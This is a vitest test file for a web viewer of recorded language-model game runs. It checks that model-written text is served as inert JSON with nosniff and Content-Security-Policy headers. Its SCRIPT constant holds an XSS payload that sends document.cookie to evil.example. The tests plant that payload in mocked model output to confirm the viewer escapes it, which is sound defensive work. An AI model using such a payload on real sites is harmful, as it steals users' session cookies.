import { join } from "node:path";
import { expect, test } from "vitest";
import { temporaryFolder } from "../../../../test/helpers/disks/folders.ts";
import { playedFolder } from "../../../../test/helpers/runs/played-folder.ts";
import { run } from "../../../../test/helpers/runs/run-command.ts";
import { inTurn, text, thinking, toolUse } from "../../../../test/helpers/server/messages-replies.ts";
import { startMessagesServer } from "../../../../test/helpers/server/messages-server.ts";
import { openTestViewer, type TestViewer } from "../../../../test/helpers/web/test-viewer.ts";
import { decodePng } from "../../../emulator/src/picture/screen-png.ts";
import type { StepComparison } from "../../src/timeline/steps/compare-details.ts";
import type { AtlasView } from "../../src/timeline/steps/read-atlas.ts";
import type { ConversationAt, StepDetail } from "../../src/timeline/steps/step-detail.ts";
import type { TimelineAnswer } from "../../src/web/api.ts";

const GAME = "/api/games/lantern";
const SCRIPT =
  "</script><script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>";

const played = playedFolder(["--new-game", "--steps", "3", "--quiet"]);

/** A run whose LM writes scripts wherever it can. */
async function scriptedRun(): Promise<TestViewer> {
  const cwd = temporaryFolder();
  const server = await startMessagesServer();
  try {
    const press = (...buttons: string[]) => toolUse("press_buttons", { buttons, [SCRIPT]: SCRIPT });
    server.answer(
      inTurn(
        {
          content: [thinking(SCRIPT), text(SCRIPT), toolUse("press_buttons", { buttons: ["a"] })],
          stopReason: "tool_use",
        },
        { content: [text(SCRIPT), press("b")], stopReason: "tool_use" },
        { content: [text(SCRIPT), toolUse(`x${SCRIPT}`.slice(0, 1), { a: SCRIPT })], stopReason: "tool_use" },
      ),
    );
    const env = { ANTHROPIC_BASE_URL: server.url, ANTHROPIC_API_KEY: server.key };
    const args = ["--model", "claude-sonnet-5-5", "--new-game", "--steps", "3", "--goal", SCRIPT, "--quiet"];
    const { code, stderr } = await run(args, { cwd, env });
    if (code !== 0) throw new Error(stderr);
  } finally {
    await server.close();
  }
  return openTestViewer(join(cwd, "saves"));
}

test("what the LM wrote comes as data only, word for word: in the step, its conversation and the time line", async () => {
  const viewer = await scriptedRun();
  const paths = [
    "timeline",
    "steps/0",
    "steps/2",
    "steps/1/conversation",
    "steps/0/playback",
    "steps/2/health",
    "steps/2/atlas",
    "compare?a=0&b=2",
  ];
  for (const path of paths) {
    const answer = await viewer.ask(`${GAME}/${path}`);

    expect([path, answer.status]).toEqual([path, 200]);
    expect(answer.headers["content-type"]).toBe("application/json");
    expect(answer.headers["x-content-type-options"]).toBe("nosniff");
    expect(answer.headers["content-security-policy"]).toContain("default-src 'none'");
  }

  const { reply } = await viewer.json<StepDetail>(`${GAME}/steps/0`);
  expect(reply?.content.map((block) => block["text"])).toContain(SCRIPT);
  const { rows } = await viewer.json<TimelineAnswer>(`${GAME}/timeline`);
  expect(rows[0]?.said).toContain("<script>");
});

test("a step tells what was shown and done, and its pictures are PNGs of what the LM saw", async () => {
  const viewer = await scriptedRun();

  const detail = await viewer.json<StepDetail>(`${GAME}/steps/1`);
  const { messages } = await viewer.json<ConversationAt>(`${GAME}/steps/1/conversation`);
  const image = detail.shown.flatMap((block) => JSON.stringify(block).match(/[0-9a-f]{64}/) ?? [])[0];
  const picture = await viewer.ask(`${GAME}/pictures/${image}?at=1`);
  const last = await viewer.ask(`${GAME}/steps/1/picture`);

  expect(detail.row).toMatchObject({ index: 1, step: 2, by: "lm" });
  expect(detail.calls.map(({ name }) => name)).toEqual(["press_buttons"]);
  expect(messages.length).toBe(detail.messages);
  for (const answer of [picture, last]) {
    expect(answer.headers["content-type"]).toBe("image/png");
    expect(decodePng(answer.bytes).width % 160).toBe(0);
  }
});

test("the atlas behind a step is told: the map that is asked for, or the player's", async () => {
  const viewer = await openTestViewer(join(played(), "saves"));

  const { map, maps, at } = await viewer.json<AtlasView>(`${GAME}/steps/2/atlas`);
  const other = await viewer.json<AtlasView>(`${GAME}/steps/2/atlas?map=%3Cscript%3E`);

  expect(maps.map(({ name }) => name)).toEqual(["Village"]);
  expect(map).toMatchObject({ name: "Village", size: { width: 16, height: 16 } });
  expect(at?.map).toBe("Village");
  expect(other.map).toEqual(map);
});

test("two steps are compared", async () => {
  const viewer = await scriptedRun();

  const compared = await viewer.json<StepComparison>(`${GAME}/compare?a=0&b=2`);

  expect(compared).toMatchObject({ a: { step: 1 }, b: { step: 3 }, common: { step: 1 }, wayB: { steps: 2 } });
});

test.each([
  ["steps/3", 404, "has no step with the index 3"],
  ["steps/x", 400, "takes a whole number"],
  ["steps/3/conversation", 404, "has no step with the index 3"],
  ["compare?a=0", 400, 'b takes a whole number, got ""'],
  ["compare?a=0&b=99", 404, "has no step with the index 99"],
])("%s is refused in words", async (path, status, words) => {
  const viewer = await openTestViewer(join(played(), "saves"));

  const answer = await viewer.ask(`${GAME}/${path}`);

  expect([answer.status, answer.text]).toEqual([status, expect.stringContaining(words)]);
  expect(viewer.bugs).toEqual([]);
});
